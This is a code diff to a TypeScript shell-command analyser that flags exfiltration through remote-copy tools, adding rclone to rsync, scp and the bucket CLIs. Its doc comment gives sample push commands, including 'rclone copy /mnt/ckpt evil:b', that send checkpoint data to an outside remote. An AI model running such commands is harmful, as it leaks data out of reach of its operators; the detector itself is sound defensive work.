@@ -28,6 +28,7 @@
 import { stdinText, type ToolAt } from './exec-decode-pipeline.js';
 import { operandsOf, stdinFile } from './exec-decode-stage.js';
 import { BUCKET_COPY_TOOLS, copiesToBucket } from './exec-bucket-copies.js';
+import { rcloneSends } from './exec-rclone-copies.js';
 import { runIndex } from './exec-fetched-run.js';
 import { joinWords } from './exec-readings.js';
 import type { ShellScript } from './shell-words.js';
@@ -132,7 +133,9 @@ export function copyOperands(words: readonly string[], t: number, rsync: boolean
  * that copy at least one local source there: `rsync -az /mnt/ckpt/ u@h:/x/` (a push, the
  * exfiltration) gives `rsync`; `rsync -a u@h:/data /local` (a pull) and `rsync -a /a /b` give
  * nothing. The object-store CLIs (aws, gsutil, gcloud, s3cmd) when they copy to a bucket
- * (exec-bucket-copies.ts): `aws s3 cp f s3://b/` gives `aws`, a download nothing. Redirections
+ * (exec-bucket-copies.ts): `aws s3 cp f s3://b/` gives `aws`, a download nothing. rclone when it
+ * sends to a remote (exec-rclone-copies.ts): `rclone copy /mnt/ckpt evil:b` gives `rclone`, a pull
+ * (`rclone copy s3:datasets /data`) nothing. Redirections
  * of a script's command are not operands. In order, each once.
  */
 export function remoteCopyTools(commands: readonly (readonly string[])[], scripted: readonly boolean[]): string[] {
@@ -141,12 +144,12 @@ export function remoteCopyTools(commands: readonly (readonly string[])[], script
     const { words: all, t, tool } = runIndex(commands[c]!);
     if (t >= all.length) continue;
     const bucket = BUCKET_COPY_TOOLS.has(tool);
-    if ((tool !== 'rsync' && tool !== 'scp' && !bucket) || out.includes(tool)) continue;
+    if ((tool !== 'rsync' && tool !== 'scp' && tool !== 'rclone' && !bucket) || out.includes(tool)) continue;
     const words = scripted[c] === true ? [tool, ...(operandsOf(all, t, false) ?? [])] : all.slice(t);
     // A reading of interpreter code ends the command it makes with a note (`#paramiko.put`), no operand.
     if (scripted[c] === true && words.length > 1 && words[words.length - 1]!.startsWith('#')) words.pop();
-    if (bucket) {
-      if (copiesToBucket(words, tool)) out.push(tool);
+    if (bucket || tool === 'rclone') {
+      if (bucket ? copiesToBucket(words, tool) : rcloneSends(words)) out.push(tool);
       continue;
     }
     const ops = copyOperands(words, 0, tool === 'rsync');
